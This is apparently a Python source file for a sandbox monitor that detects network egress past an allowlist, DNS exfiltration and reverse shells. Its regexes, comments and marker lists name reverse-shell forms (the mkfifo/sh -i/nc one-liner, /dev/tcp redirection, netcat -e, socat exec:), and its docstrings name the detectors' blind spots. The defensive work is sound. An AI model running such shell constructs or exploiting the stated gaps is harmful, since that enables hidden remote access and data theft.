"""Network detectors: egress past the allowlist, DNS used as a data channel, reverse shells.

A refused or failed connect is flagged like a successful one (the attempt is the signal).
Every list and threshold is a param (detectors/config.py).
"""

from __future__ import annotations

import fnmatch
import math
import re
from collections import Counter, deque
from collections.abc import Iterable
from typing import Any

from collector.events import ConnectEvent, Event, ExecEvent, OpenEvent, SyscallEvent
from detectors.base import (
    Context,
    Detector,
    DetectorSpec,
    Finding,
    KernelHalf,
    ReadInterest,
    register,
)
from detectors.catalog import stdio
from detectors.catalog.common import in_any, outcome, parse_ip
from detectors.catalog.proctarget import session_hosts
from detectors.openroute import OpenInterest

INET = ("AF_INET", "AF_INET6")
SENDS = ("sendto", "sendmsg", "sendmmsg")


@register
class EgressViolation(Detector):
    """connect, sendto, sendmsg and sendmmsg (with a destination) to an IPv4/IPv6 address
    outside `allow`. The default is loopback only: sandbox-runtime sends the sandbox's
    traffic (package registries, DNS through the host's resolver) through its proxies on
    loopback, so a direct connection elsewhere is a way around its domain allowlist. A
    host that lets agents out directly lists its networks in `allow`, or sets
    `allow_all_other = true` to keep only the metadata check. Cloud metadata addresses
    (`metadata`: AWS/GCP/Azure 169.254.169.254, AWS IPv6 fd00:ec2::254, ECS 169.254.170.2,
    Alibaba 100.100.100.200) are flagged even when allowed, with severity critical:
    credentials live there. Refused and unreachable attempts count. Past `kill_count`
    violations in a session the action becomes kill (0: never). Unix sockets are
    `runtime_socket`'s; sends on a connected socket (`args.connected`: the address is the
    socket's peer) were checked at its connect."""

    spec = DetectorSpec(
        id="egress_violation",
        kinds=frozenset({"connect", "syscall"}),
        title="Network Egress Outside The Allowlist",
        description="a connect or send to an address outside the allowlist (cloud "
                    "metadata addresses always); kill above a count per session",
        severity="high",
        action="alert",
        mitre=("T1041", "T1552.005", "T1071"),
        not_flagged=(
            "connects and sends to `allow` (loopback and the unspecified address by default), "
            "except the cloud metadata addresses, which are always flagged",
            "sends on a connected socket without a destination: judged at its connect",
            "unix sockets: runtime_socket's and reverse_shell's",
        ),
        output="{syscall} to {address} port {port} by {comm}",
        params={
            # loopback; a connect to the unspecified address (0.0.0.0, ::) also reaches
            # the local host on Linux
            "allow": ["127.0.0.0/8", "::1/128", "0.0.0.0/32", "::/128"],
            "allow_all_other": False,    # true: only the metadata addresses are flagged
            "metadata": ["169.254.169.254/32", "fd00:ec2::254/128", "169.254.170.2/32",
                         "100.100.100.200/32"],
            "kill_count": 20,            # violations per session past which: kill (0: never)
        },
    )

    def check(self, ctx: Context, ev: Event) -> Iterable[Finding]:
        if isinstance(ev, ConnectEvent):
            syscall = "connect"
        elif isinstance(ev, SyscallEvent) and ev.syscall in SENDS \
                and not ev.args.get("connected"):  # its socket's peer: judged at connect
            syscall = ev.syscall
        else:
            return
        if ev.family not in INET:
            return
        ip = parse_ip(ev.address)
        if ip is None:
            return
        p = ctx.params
        metadata = in_any(ip, p["metadata"])
        if not metadata and (p["allow_all_other"] or in_any(ip, p["allow"])):
            return
        count = ctx.state["count"] = ctx.state.get("count", 0) + 1
        action = "kill" if p["kill_count"] and count > p["kill_count"] else None
        yield Finding(
            key=f"[{ev.address}]:{ev.port}" if ":" in (ev.address or "")  # v6, v4-mapped too
            else f"{ev.address}:{ev.port}",
            fields={"syscall": syscall, "address": ev.address, "port": ev.port,
                    "comm": ev.comm, "metadata": metadata, "count": count, **outcome(ev)},
            severity="critical" if metadata else None, action=action,
            note="cloud metadata address" if metadata else "")


_LABEL_SPLIT = re.compile(r"(?<!\\)\.")


def entropy(s: str) -> float:
    """Shannon entropy in bits per character."""
    if not s:
        return 0.0
    n = len(s)
    return -sum(c / n * math.log2(c / n) for c in Counter(s).values())


def labels(query: str) -> list[str]:
    return [x for x in _LABEL_SPLIT.split(query.rstrip(".")) if x]


@register
class DnsExfil(Detector):
    """DNS queries (the `dns_query` of sends to port 53 or DNS-looking sends, over UDP or
    TCP, by sendto/sendmsg/sendmmsg or write/writev on a socket) used as a
    data channel: a label longer than `max_label_length` (DNS allows 63; real host names'
    labels stay well below 50), a hyphen-free run of `entropy_min_length`+ characters in a
    label whose Shannon entropy exceeds `max_entropy` bits per character (encoded data:
    base32 scores about 4.2, 22 distinct characters 4.46; words stay near 3-3.5, and so
    does hex (at most 4.0: hex data is left to the length and rate checks); runs, not whole
    labels, because hyphenated names such as `github-production-release-asset-2e65be`
    score above 4 as a whole), or more than `max_names` distinct names queried in
    `window` seconds in a session (a tunnel: every chunk is a new name, so caches cannot
    answer it; repeated lookups of one name, as Node makes for every request to its
    registry, count once). Keys fold on
    the query's last two labels, so a burst to one domain is one alert and a count. Data
    encoded in short labels below the rate limit is not caught."""

    spec = DetectorSpec(
        id="dns_exfil",
        kinds=frozenset({"syscall"}),
        title="Possible DNS Exfiltration",
        description="DNS queries with overlong or high-entropy labels, or at a high rate",
        severity="high",
        action="alert",
        mitre=("T1048.003", "T1071.004"),
        not_flagged=(
            "ordinary lookups: labels below `max_label_length`, hyphenated or low-entropy names, "
            "and repeats of one name (Node looks its registry up on every request)",
            "hex-encoded data in short labels below the rate limit: left to the length and rate "
            "checks, a known gap",
        ),
        output="DNS {reason} for {query} by {comm}",
        params={
            "max_label_length": 50,      # DNS allows 63; real hostnames' labels stay short
            "max_entropy": 4.0,          # bits/char; English-like names stay near 3-3.5
            "entropy_min_length": 20,    # entropy is only meaningful on long labels
            "max_names": 60,             # distinct names per window per session; 0: off
            "window": 10.0,              # seconds
        },
    )

    def check(self, ctx: Context, ev: Event) -> Iterable[Finding]:
        if not isinstance(ev, SyscallEvent) or not ev.dns_query:
            return
        p = ctx.params
        query = ev.dns_query
        labs = labels(query)
        domain = ".".join(labs[-2:]) if labs else query
        longest = max(labs, key=len) if labs else ""
        # entropy of the longest hyphen-free run: hyphenated words
        # (github-production-release-asset-2e65be) add up to a high entropy, encoded data
        # has no hyphens (hex, base32) or few
        run = max((r for lab in labs for r in lab.split("-")), key=len, default="")
        base = {"query": query, "domain": domain, "comm": ev.comm}
        ent = round(entropy(run), 2)
        if len(longest) > p["max_label_length"]:
            yield Finding(key=f"long:{domain}", fields={
                "reason": f"label of {len(longest)} chars", **base,
                "label_length": len(longest), "entropy": ent})
        elif len(run) >= p["entropy_min_length"] and ent > p["max_entropy"]:
            yield Finding(key=f"entropy:{domain}", fields={
                "reason": f"label entropy {ent}", **base,
                "label_length": len(run), "entropy": ent})
        if p["max_names"]:
            recent: deque[tuple[int, str]] = ctx.state.setdefault("recent", deque())
            counts: Counter[str] = ctx.state.setdefault("counts", Counter())
            window_ns = int(p["window"] * 1e9)
            recent.append((ev.ts, query))
            counts[query] += 1
            while recent and recent[0][0] < ev.ts - window_ns:
                _, old = recent.popleft()
                counts[old] -= 1
                if not counts[old]:
                    del counts[old]
            if len(counts) > p["max_names"] and ev.ts >= ctx.state.get("quiet_until", 0):
                ctx.state["quiet_until"] = ev.ts + window_ns  # one finding per window
                yield Finding(key="rate", fields={
                    "reason": f"{len(counts)} distinct names in {p['window']}s", **base,
                    "names": len(counts)})


_NC = ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd")
_NC_EXEC = re.compile(r"\A-(?:[a-zA-Z]*[ec][a-zA-Z]*|-exec|-sh-exec|-lua-exec)(?:=.*)?\Z")
_DEV_REDIRECT = re.compile(r"[<>]&?\s*/dev/(?:tcp|udp)/")
_NET_TOOL = r"(?:nc|ncat|netcat|telnet|openssl\s+s_client)"
_PIPE_SHELL = re.compile(  # mkfifo f; cat f | sh -i 2>&1 | nc HOST PORT > f, and the like
    rf"\b(?:ba|da|z|k)?sh\s+-i\b[^;]*\|\s*(?:\S*/)?{_NET_TOOL}\b"
    rf"|\b{_NET_TOOL}\b[^;&|]*\|\s*(?:\S*/)?(?:ba|da|z|k)?sh\b")
_SOCAT_EXEC = re.compile(r"(?i)(?:\A|[,!])\s*(?:exec|system)\s*:")


def _base(s: str) -> str:
    return s.rsplit("/", 1)[-1]


@register
class ReverseShell(Detector):
    """A shell's stdio on a network connection, however it got there:
    - an inet socket placed on fd 0, 1 or 2: dup'ed there (dup/dup2/dup3/fcntl F_DUPFD,
      `args.socket`), or made there by socket()/accept()/accept4() on a closed fd 0-2;
    - any program exec'd with an inet socket on fd 0-2 (the kernel reads the fd table at
      exec: `stdio` of the exec event), so also a socket inherited from a parent that set
      it up outside the session's view (python's `Popen(..., stdin=sock)`);
    - a shell (`shells`) or interpreter (`interpreters`) exec'd with a unix socket on its
      stdio whose peer (the kernel's sk_peer_pid) is not a process of the session;
    - a relay: a shell or interpreter whose stdin is a pipe or fifo written by a process
      that holds a network connection (connect, accept, or a socket on its own stdio) AND
      whose stdout/stderr is a pipe or fifo read by such a process (`mkfifo f; sh -i < f
      2>&1 | nc HOST PORT > f`, socat with a fifo, `nc ... | sh | nc ...`), whichever of
      the exec and the connect comes first; the relay is any program, and its ends are
      its stdio at exec or fifos it opens by path;
    - the argv patterns: a shell redirecting to or from `/dev/tcp/` or `/dev/udp/` (`grep
      /dev/tcp/` is not flagged), `sh -i` piped into netcat/telnet/openssl, an
      interpreter with `-c`/`-e`/`-r` code that names a socket (`socket_markers`) and a
      shell or process spawn (`shell_markers`), netcat `-e`/`-c` (`ncat --exec`,
      `--sh-exec`), socat with an `exec:` or `system:` address.
    Deliberately not flagged (`not_flagged`): `curl ... | sh`, socketpair stdio, ssh,
    `nc -l` servers. Not seen: a relay whose pipes are not its stdio (a program that
    spawns a shell on pipes it holds at other fds and copies them to a socket), and
    unix-socket relays' peers (only stdio sockets carry the peer pid)."""

    spec = DetectorSpec(
        id="reverse_shell",
        kinds=frozenset({"syscall", "exec", "connect", "fork", "open"}),
        reads=ReadInterest(),
        title="Reverse Shell",
        description="an inet socket on fd 0-2 (dup, socket, accept, inherited), a shell "
                    "exec'd on a socket or relayed to one through pipes or fifos, "
                    "/dev/tcp redirections, nc -e or socat exec:",
        severity="critical",
        action="kill",
        mitre=("T1059.004", "T1059.006", "T1071"),
        output="{how} by {comm}",
        params={
            # a shell whose command line redirects to or from /dev/tcp or /dev/udp
            "shells": ["bash", "sh", "dash", "zsh", "ksh", "mksh", "ash", "busybox"],
            "interpreters": ["python*", "perl*", "ruby*", "php*", "node", "nodejs", "lua*"],
            "socket_markers": ["socket", "fsockopen", "TCPSocket", "net.connect",
                               "net.Socket", "/dev/tcp/"],
            "shell_markers": ["pty", "dup2", "/bin/sh", "/bin/bash", "sh -i", "bash -i",
                              "subprocess", "child_process", "exec(", "system(", "popen",
                              "spawn"],
            # true: a unix socket dup'ed onto stdio is not flagged (Node, and others, give
            # children socketpair stdio); a network socket always is
            "ignore_unix_sockets": True,
        },
        # an inet socket placed on fd 0-2 by dup, socket or accept, or found there at
        # exec (unix sockets are never killed in the kernel)
        kernel=KernelHalf(reason="AW_WHY_REVSHELL", enable="AW_EN_REVSHELL"),
        not_flagged=(
            "`curl URL | sh`: the socket only feeds the shell's input; a reverse shell "
            "also carries its output back (and `sh | curl -T -` carries output only)",
            "a unix socket dup'ed onto stdio (with `ignore_unix_sockets`): Node and "
            "Python give children socketpair stdio whose peer is in the session",
            "unix-socket stdio whose peer is a session process, or that the session was "
            "started with: an agent's Node process gives the sandbox socketpair stdio",
            "ssh and git over ssh, and `nc -l` servers: a socket, but no shell on it",
            "exec attempts that failed with ENOENT: a shell's PATH search",
            "(not seen) a relay holding the shell's pipes at fds other than its own "
            "stdio: only fds 0-2 are read at exec",
        ),
    )

    def open_interest(self, params: dict[str, Any]) -> OpenInterest:
        # fifos only
        return OpenInterest(fifos=True)

    def check(self, ctx: Context, ev: Event) -> Iterable[Finding]:
        st = ctx.state
        if isinstance(ev, OpenEvent):  # the most frequent kind: fifos only
            if ev.file_type == "fifo" and stdio.fifo_opened(st, ev):
                yield from self._relays(ctx, ev)
            return
        session_hosts(ctx, ev)  # the session's pids: a unix peer outside them
        if isinstance(ev, SyscallEvent):
            yield from self._dup(ev, ctx.params["ignore_unix_sockets"])
            yield from self._placed(ev)
            if stdio.holder_seen(st, ev):
                yield from self._relays(ctx, ev)
        elif isinstance(ev, ConnectEvent):
            if stdio.holder_seen(st, ev):
                yield from self._relays(ctx, ev)
        elif isinstance(ev, ExecEvent) and ev.error != "ENOENT":
            yield from self._exec(ctx, ev)
            if ev.ret == 0 and ev.stdio:
                yield from self._stdio(ctx, ev)

    @staticmethod
    def _is_shell(ctx: Context, ev: ExecEvent) -> bool:
        names = {_base(ev.filename), _base(ev.argv[0]) if ev.argv else ""} - {""}
        return bool(names & set(ctx.params["shells"])) or any(
            fnmatch.fnmatchcase(n, g) for n in names for g in ctx.params["interpreters"])

    @staticmethod
    def _placed(ev: SyscallEvent) -> Iterable[Finding]:
        """socket(), accept() or accept4() returning fd 0, 1 or 2 for an inet socket"""
        if ev.syscall not in ("socket", "accept", "accept4") or not 0 <= ev.ret <= 2:
            return
        family = ev.args.get("family", ev.family)
        if family in INET:
            yield Finding(key=f"placed:{ev.ret}", fields={
                "how": f"{family} socket placed on fd {ev.ret} by {ev.syscall}()",
                "syscall": ev.syscall, "fd": ev.ret, "comm": ev.comm, **outcome(ev)})

    def _stdio(self, ctx: Context, ev: ExecEvent) -> Iterable[Finding]:
        """The fd table at exec: inet sockets on 0-2 for anyone; unix sockets with an
        outside peer for shells and interpreters; then the relays this exec completes."""
        st = ctx.state
        shell = self._is_shell(ctx, ev)
        stdio.exec_seen(st, ev, shell)
        if ev.setup:
            return
        for e in ev.stdio or ():
            if e.get("type") != "socket":
                continue
            unix_out = shell and stdio.outside_unix(st, e)
            if e.get("family") in INET or unix_out:
                what = stdio.socket_what(st, e)
                yield Finding(key=f"stdio:{ev.pid}:{_base(ev.filename)}", fields={
                    "how": f"{_base(ev.filename)} exec'd with fd {e.get('fd')} on an {what}",
                    "filename": ev.filename, "argv": ev.argv, "fd": e.get("fd"),
                    "comm": ev.comm, **outcome(ev)})
                break
        yield from self._relays(ctx, ev)

    @staticmethod
    def _relays(ctx: Context, ev: Event) -> Iterable[Finding]:
        for r in stdio.relays(ctx.state):
            yield Finding(key=f"relay:{r['shell_pid']}", fields={
                "how": f"{_base(r['filename'])} (pid {r['shell_pid']}) relayed through "
                       f"pipes/fifos to pid {r['feeder']}'s {r['socket']}"
                       + (f" and pid {r['drain']}" if r['drain'] != r['feeder'] else ""),
                "filename": r["filename"], "argv": r["argv"], "shell_pid": r["shell_pid"],
                "relay_pids": sorted({r["feeder"], r["drain"]}), "comm": ev.comm})

    @staticmethod
    def _dup(ev: SyscallEvent, ignore_unix: bool) -> Iterable[Finding]:
        if ev.syscall not in ("dup", "dup2", "dup3", "fcntl") \
                or ev.args.get("socket") is not True:
            return
        if ignore_unix and ev.args.get("unix_socket") is True:
            return  # a unix socket (Node and others give children socketpair stdio)
        newfd = ev.args.get("newfd") if ev.syscall in ("dup2", "dup3") else ev.ret
        if isinstance(newfd, int) and 0 <= newfd <= 2:
            yield Finding(key=f"dup:{newfd}", fields={
                "how": f"socket fd {ev.args.get('oldfd', ev.args.get('fd'))} {ev.syscall}'ed "
                       f"onto fd {newfd}",
                "syscall": ev.syscall, "fd": newfd, "comm": ev.comm, **outcome(ev)})

    @staticmethod
    def _exec(ctx: Context, ev: ExecEvent) -> Iterable[Finding]:
        p = ctx.params
        argv = ev.argv
        names = {_base(ev.filename), _base(argv[0]) if argv else ""}
        line = " ".join(argv)
        low = line.lower()
        how: str | None = None
        if names & set(p["shells"]) and any(_DEV_REDIRECT.search(a) for a in argv[1:]):
            how = "shell with a /dev/tcp or /dev/udp redirection"
        elif names & set(_NC) and any(_NC_EXEC.match(a) for a in argv[1:]):
            how = "netcat with a program on the connection (-e/-c)"
        elif "socat" in names and any(_SOCAT_EXEC.search(a) for a in argv[1:]):
            how = "socat with exec:/system:"
        elif any(fnmatch.fnmatchcase(n, g) for n in names for g in p["interpreters"] if n) \
                and any(a in ("-c", "-e", "-r", "--eval") for a in argv[1:]) \
                and any(m.lower() in low for m in p["socket_markers"]) \
                and any(m.lower() in low for m in p["shell_markers"]):
            how = "interpreter one-liner with a socket and a shell"
        elif names & set(p["shells"]) and any(_PIPE_SHELL.search(a) for a in argv[1:]):
            how = "shell piped to or from netcat/telnet"
        if how:
            yield Finding(key=f"exec:{_base(ev.filename)}", fields={
                "how": how, "filename": ev.filename, "argv": argv, "comm": ev.comm,
                **outcome(ev)})
